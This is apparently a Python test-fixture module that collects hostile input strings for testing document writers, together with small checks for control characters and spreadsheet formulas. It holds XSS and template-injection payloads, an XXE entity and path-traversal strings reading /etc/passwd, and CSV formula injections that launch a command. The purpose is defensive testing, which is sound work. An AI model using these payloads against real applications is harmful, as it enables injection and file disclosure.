"""Strings that a hostile file may carry, for the tests of every writer of a document.

Import ``HOSTILE`` (name to string) or ``HOSTILE_VALUES``; ``FORMULAS`` are the ones that a
spreadsheet would run. ``unsafe_characters`` and ``is_formula`` judge what was written.
"""

from __future__ import annotations

MARKUP = {
    "script": "<script>alert(1)</script>",
    "closing-script": "</script><script>alert('x')</script>",
    "image": "<img src=x onerror=alert(1)>",
    "svg": "<svg/onload=alert(1)>",
    "comment": "--><!-- ]]> <!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "style": "</style><style>@import 'https://example.org/x.css';*{background:url(//x)}</style>",
    "attribute-double": '" onmouseover="alert(1)" x="',
    "attribute-single": "' onfocus='alert(1)' autofocus x='",
    "attribute-bare": "x onclick=alert(1) ",
    "link": "javascript:alert(1)",
    "data-link": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62; &amp;amp;",
    "template": "{{ 7*7 }} {% for x in y %} ${7*7} #{7*7} %s %n {0.__class__}",
    "json": '"},"extra":{"x":"\\u003c\\',
    "script-quirk": "<!--<script>",
}
"""Text that acts in HTML, SVG, CSS, XML, JSON or a template if it is not escaped."""

FORMULAS = {
    "formula-equals": "=1+1",
    "formula-command": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("https://example.org?x="&A1,"click")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-return": "\r=1+1",
    "formula-newline": "\n=1+1",
    "formula-space": " =1+1",
    "formula-full-width": "\uff1d1+1",
}
"""Text that a spreadsheet runs as a formula. Source: OWASP, CSV Injection."""

ROWS = {
    "row-break": 'a\r\n"b","=1+1"\r\nc',
    "quote": 'say ""yes"", "no"',
    "delimiters": "a,b;c\td|e",
}
"""Text that ends a row or a cell of a table too early."""

UNSEEN = {
    "null": "knee\x00.dcm",
    "escape": "\x1b[2J\x1b[31mred\x1b]0;title\x07",
    "backspace": "safe\x08\x08\x08\x08evil",
    "controls": "".join(chr(n) for n in range(1, 32)) + "\x7f\x80\x85\x9f",
    "bidi-override": "knee\u202egnp.exe",
    "bidi-isolate": "\u2066left\u2069\u2067right\u2069",
    "zero-width": "kn\u200bee\u200d\u2060\ufeff",
    "line-separators": "one\u2028two\u2029three\x0bfour",
    "tag-letters": "knee\U000e0041\U000e0042",
    "noncharacter": "knee\ufffe\uffff",
}
"""Characters that act on a text without being seen."""

BROKEN = {
    "lone-surrogate": "knee\ud800",
    "surrogate-bytes": b"knee\xff\xfe.dcm".decode("utf-8", "surrogateescape"),
    "half-pair": "\udc00\ud83d",
}
"""Text that cannot be encoded: how Python keeps file names that are no UTF-8."""

PATHS = {
    "up": "../../../../etc/passwd",
    "up-windows": "..\\..\\windows\\system32",
    "absolute": "/etc/passwd",
    "drive": "C:\\Windows\\win.ini",
    "share": "\\\\example.org\\share\\x",
    "device": "CON",
    "dots": "...",
    "file-link": "file:///etc/passwd",
}
"""Text that leaves its folder if it is used as a name."""

LONG = {
    "long": "A" * 100_000,
    "long-markup": "<b>" * 20_000,
    "long-combining": "a" + "\u0301" * 5_000,
    "empty": "",
    "blank": " \u00a0\u3000",
}
"""Text that is too long, or none at all."""

HOSTILE: dict[str, str] = {
    **MARKUP, **FORMULAS, **ROWS, **UNSEEN, **BROKEN, **PATHS, **LONG
}  # fmt: skip
"""All of them, name to string."""

HOSTILE_VALUES: tuple[str, ...] = tuple(HOSTILE.values())

CONTROL_OR_BIDI = frozenset(
    [*map(chr, range(32)), *map(chr, range(0x7F, 0xA0))]
    + [chr(n) for n in (0x061C, *range(0x200B, 0x2010), *range(0x2028, 0x202F))]
    + [chr(n) for n in (*range(0x2060, 0x2070), 0xFEFF)]
) - {"\n", "\t"}
"""Characters that no document for people may hold inside a text from outside (a page itself may
have line ends and tabs)."""


def unsafe_characters(text: str) -> set[str]:
    """The characters of a written document that act unseen, or cannot be encoded."""
    return {c for c in text if c in CONTROL_OR_BIDI or "\ud800" <= c <= "\udfff"}


def is_formula(cell: str) -> bool:
    """Whether a spreadsheet would take a cell as a formula. Source: OWASP, CSV Injection."""
    return cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")) and not _number(cell)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
